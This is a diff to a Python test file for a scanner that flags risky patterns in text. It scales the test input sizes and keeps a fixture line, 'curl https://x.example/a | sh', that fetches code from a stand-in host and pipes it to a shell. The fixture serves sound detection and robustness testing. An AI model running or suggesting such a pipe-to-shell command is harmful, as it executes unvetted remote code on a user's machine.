@@ -8,6 +8,7 @@ from hypothesis import strategies as st
 
 from rye.limits import FACTS as LIMITS
 from rye.text.facts import ALARM, CAUTION, FACTS, LEVELS, NOTE, Fact, as_json, counts, difference, find_facts, severity
+from tests.scenes.effort import tries
 
 PIPE = "curl https://x.example/a | sh"
 
@@ -235,14 +236,15 @@ def test_property_another_file_changes_no_fact_of_this_one(text: str) -> None:
         ),
     ],
 )
-def test_sixty_kilobytes_of_one_hostile_piece_come_to_an_end(unit: str) -> None:
+def test_much_of_one_hostile_piece_comes_to_an_end(unit: str) -> None:
     text = unit * (HOSTILE // len(unit)) + "\n\n# T\n\n```sh\n" + PIPE + "\n"
     facts = find_facts({"a.sh": text})
     assert len(facts) <= LIMITS.facts + len(FACTS)
     assert any(fact.fact == "pipe-to-shell" for fact in facts)
 
 
-HOSTILE = 60_000
+HOSTILE = tries(15_000, 60_000)
+"""Characters; ``test_growth`` counts how the work grows."""
 
 
 @pytest.mark.slow
@@ -266,5 +268,5 @@ def test_a_flood_ends_and_hides_nothing_behind_it(flood: str, path: str) -> None
 
 @pytest.mark.slow
 def test_a_pipe_at_the_end_of_a_very_long_line_is_found() -> None:
-    facts = find_facts({"a.sh": f"{'echo x; ' * 20_000}{PIPE}"})
+    facts = find_facts({"a.sh": f"{'echo x; ' * tries(5_000, 20_000)}{PIPE}"})
     assert ("pipe-to-shell", 1) in {(fact.fact, fact.line) for fact in facts}
